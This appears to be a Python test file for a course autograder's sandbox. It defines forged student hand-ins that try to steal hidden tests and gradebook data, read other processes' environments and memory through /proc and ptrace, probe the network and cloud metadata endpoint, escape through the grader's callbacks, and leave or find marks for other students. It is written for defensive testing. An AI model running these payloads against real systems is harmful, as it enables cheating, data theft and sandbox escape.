"""Thefts: looking for hidden tests, answers and other people's work, and telling them later."""
# ruff: noqa: D401 - each docstring says what a hand-in tries

from tests.hostile.cases import HandIn, but, case, complete, forged, wrong

#: Looks for what could be hidden, and shows everything that it finds.
SEARCH = """
import os
def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(200_000))
    except OSError as error:
        print(path, error)
def walk(top, deep=6):
    for folder, folders, names in os.walk(top):
        if folder.count("/") - top.count("/") >= deep:
            folders.clear()
        for name in names:
            yield os.path.join(folder, name)
"""


@case("theft")
def network_tried_by_a_cell():
    """It looks for anything to talk to: this machine's ports, names, proxies, other hosts."""
    return forged(
        "import socket, subprocess, os\n"
        "for host, port in (('127.0.0.1', @port@), ('127.0.0.1', 22), ('169.254.169.254', 80),\n"
        "                   ('8.8.8.8', 53), ('localhost', 5432)):\n    try:\n"
        "        one = socket.create_connection((host, port), timeout=0.3)\n"
        "        one.sendall(b'@mark@')\n"
        # Within a room, what it talks to here is itself; the listener knows better.
        "        if host[:3] not in ('127', 'loc'):\n"
        "            print('@mark@', 'talked to', host, port)\n"
        "    except OSError as error:\n        print(error)\n"
        "try:\n    print('@mark@', 'talked to', socket.gethostbyname('example.org'))\n"
        "except OSError as error:\n    print(error)\n"
        "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n"
        "    one.sendto(b'@mark@', ('127.0.0.1', @port@))\nexcept OSError as error:\n"
        "    print(error)\n"
        "print({key: value for key, value in os.environ.items() if 'proxy' in key.lower()})"
    )


@case("theft")
def course_folder_read():
    """It walks from the course's top and shows sources, gradebook and neighbours' work."""
    return forged(
        SEARCH + "for top in ('@root@', '..', '../..', '../../../..', '@home@'):\n"
        "    print(top, os.path.exists(top) and os.listdir(top))\n"
        "    for path in walk(top):\n"
        "        if path.endswith(('.ipynb', '.txt', '.db', '.toml', '.json', '.py')):\n"
        "            show(path) if '/lib/python' not in path else None"
    )


@case("theft")
def gradebook_read():
    """It opens the gradebook, where source cells with hidden tests are, as a database."""
    return forged(
        "import sqlite3, glob\n"
        "for path in ('@root@/gradebook/gradebook.db', '../../../gradebook.db', 'gradebook.db'):\n"
        "    try:\n        one = sqlite3.connect(f'file:{path}?mode=ro', uri=True)\n"
        "        print(one.execute('select source from source_cell').fetchall())\n"
        "        print(one.execute('select * from comment').fetchall())\n"
        "    except sqlite3.Error as error:\n        print(error)"
    )


@case("theft")
def processes_read():
    """It reads what /proc tells of all processes: environments, command lines, memory, files."""
    return forged(
        SEARCH + "import glob\nprint(dict(os.environ))\n"
        "for pattern in ('environ', 'cmdline', 'mountinfo', 'maps', 'stack', 'status'):\n"
        "    for path in glob.glob(f'/proc/[0-9]*/{pattern}')[:400]:\n        show(path)\n"
        "for top in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):\n    try:\n"
        "        print(top, os.listdir(top))\n"
        "        show(top + '@root@/notes-of-the-instructor.txt')\n"
        "    except OSError as error:\n        print(error)\n"
        "for path in glob.glob('/proc/[0-9]*/fd/*')[:400]:\n    try:\n"
        "        print(os.readlink(path))\n"
        "        if os.path.isfile(path): show(path)\n"
        "    except OSError as error:\n        print(error)"
    )


@case("theft")
def memory_of_other_processes_read():
    """It reads and traces the memory of every process that it sees, and its own for words."""
    return forged(
        "import ctypes, glob, os, re\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for path in glob.glob('/proc/[0-9]*'):\n    pid = int(path.rpartition('/')[2])\n"
        "    if pid != os.getpid():\n"
        "        print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())\n"
        "    try:\n        maps = open(f'{path}/maps').read().splitlines()\n"
        "        with open(f'{path}/mem', 'rb', 0) as memory:\n"
        "            for line in maps[:3000]:\n"
        "                low, high = (int(one, 16) for one in line.split()[0].split('-'))\n"
        "                if ' rw' in line and high - low < 1 << 26:\n"
        "                    try:\n                        memory.seek(low)\n"
        "                        for word in re.findall(rb'canary[a-z]+[0-9a-f]{12}',\n"
        "                                memory.read(high - low))[:20]:\n"
        "                            print(word)\n"
        "                    except (OSError, ValueError):\n"
        "                        pass\n    except OSError as error:\n        print(error)"
    )


@case("theft", *but("Q2"))
def caller_looked_at():
    """Its function looks at all frames, objects and callbacks for what the test wants."""
    return HandIn(
        complete(
            Q2=(
                "import gc, inspect, sys, tracemalloc, linecache, builtins\n"
                "tracemalloc.start(25)\nloot = builtins.__dict__.setdefault('loot', [])\n"
                "def balances(entries, convert=None):\n"
                "    frames = [*sys._current_frames().values(), sys._getframe()]\n"
                "    for frame in frames:\n        while frame is not None:\n"
                "            loot.append((frame.f_code.co_filename, frame.f_lineno))\n"
                "            loot.append([repr(one)[:999] for one in frame.f_code.co_consts])\n"
                "            for where in (frame.f_locals, frame.f_globals):\n"
                "                loot.append([*where])\n"
                "                if 'secret' in where or 'wanted' in where:\n"
                "                    loot.append(repr((where.get('secret'), "
                "where.get('wanted'))))\n"
                "                    return where.get('wanted')\n"
                "            frame = frame.f_back\n"
                "    loot.append([''.join(lines) for *_, lines, _ in linecache.cache.values()\n"
                "        if isinstance(lines, list)][-40:])\n"
                "    loot.append([one for one in gc.get_objects()\n"
                "        if isinstance(one, dict) and 'secret' in one])\n"
                "    loot.append([str(line) for line in inspect.stack()])\n"
                "    if convert is not None:\n"
                "        for name in (*dir(convert), '__code__', '__closure__', '__globals__'):\n"
                "            try:\n                loot.append(repr(getattr(convert, name)))\n"
                "                loot.append(repr(getattr(convert, name).cell_contents))\n"
                "            except Exception:\n                pass\n"
                "        loot.append([repr(one) for one in gc.get_referents(convert)])\n"
                "    print(loot)\n"
                "    return {}"
            )
        ),
        last=("print(builtins.loot)",),
    )


@case("theft")
def callback_used_to_leave():
    """It walks from the test's own callback, as far as attributes lead, to run code out there."""
    return HandIn(
        wrong(
            Q2=(
                "def balances(entries, convert=None):\n    found = {}\n"
                "    if convert is not None:\n"
                "        for path in ('__globals__', '__class__.__base__.__subclasses__',\n"
                "                '__self__', '__init__.__globals__', 'func_globals',\n"
                "                '__call__.__func__.__globals__', '__reduce_ex__',\n"
                "                '__builtins__', '__code__.co_consts', '__closure__'):\n"
                "            try:\n                one = convert\n"
                "                for name in path.split('.'): one = getattr(one, name)\n"
                "                print(path, one, one() if callable(one) else '')\n"
                "            except Exception as error:\n                print(path, error)\n"
                "        class Evil:\n"
                "            def __mul__(self, other): print(other); return 1\n"
                "            __rmul__ = __index__ = __mul__\n"
                "            def __reduce__(self): return (print, ('@mark@',))\n"
                "        for bad in (Evil(), lambda x: x, [1] * 9, {'a': Evil()}, print, Evil):\n"
                "            try:\n                found[repr(bad)] = convert(bad)\n"
                "            except BaseException as error:\n                print(error)\n"
                "    return found"
            )
        )
    )


@case("theft")
def history_shown():
    """It shows all that the shell remembers: inputs, outputs, other sessions."""
    return HandIn(
        wrong(),
        last=(
            "%history -g -n",
            "print(In, Out, _ih, _oh, _i, _ii)\nshell = get_ipython()\n"
            "print([*shell.history_manager.get_range()])\n"
            "print(shell.history_manager.hist_file, shell.kernel.parent if "
            "hasattr(shell.kernel, 'parent') else 0)",
            "import inspect\nprint({name: value for name, value in globals().items()})\n"
            "print(shell.kernel.get_parent())",
        ),
    )


@case("theft")
def something_left_for_the_next():
    """It leaves a word wherever the next student's code may look."""
    return forged(
        "import os\nfrom multiprocessing import shared_memory\n"
        "for top in ('/tmp', '/dev/shm', '/var/tmp', "
        "'/run', '.', '@home@', os.path.expanduser('~')):\n"
        "    try:\n        open(top + '/@mark@-left', 'w').write('@mark@ left')\n"
        "    except OSError:\n        pass\n"
        "try:\n    shared_memory.SharedMemory('@mark@', create=True, size=64).buf[:4] = b'left'\n"
        "except OSError:\n    pass\n"
        "import numpy, torch, sys\nnumpy.left = torch.left = sys.left = '@mark@ left'"
    )


@case("theft")
def what_was_left_looked_for():
    """It looks for what another student's code has left, in files and in modules."""
    return forged(
        "import glob, os, numpy, torch, sys, gc\n"
        "for top in ('/tmp', '/dev/shm', '/var/tmp', '/run', '.', os.path.expanduser('~')):\n"
        "    for path in glob.glob(top + '/hostile-mark*'):\n"
        "        print('@mark@', 'found', path)\n"
        "for module in (numpy, torch, sys):\n"
        "    if hasattr(module, 'left'): print('@mark@', 'found', module)\n"
        "print(os.listdir('.'), os.listdir('/tmp'), os.listdir('/dev/shm'))"
    )


@case("theft")
def package_sources_searched():
    """It searches all that it can read below the folders of Python and the course's packages."""
    return forged(
        SEARCH + "import re, sys, importlib.util\n"
        "for name in ('cmp784', 'autograder', 'nbgrader'):\n    try:\n"
        "        spec = importlib.util.find_spec(name)\n"
        "        top = os.path.dirname(spec.origin)\n"
        "        print(name, os.listdir(os.path.dirname(top)))\n"
        "        for path in walk(os.path.dirname(top), 3):\n"
        "            if path.endswith(('.ipynb', '.db', '.toml')): show(path)\n"
        "    except Exception as error:\n        print(error)\n"
        "for path in walk('/', 4):\n    if path.endswith(('.ipynb', '.db')): show(path)"
    )
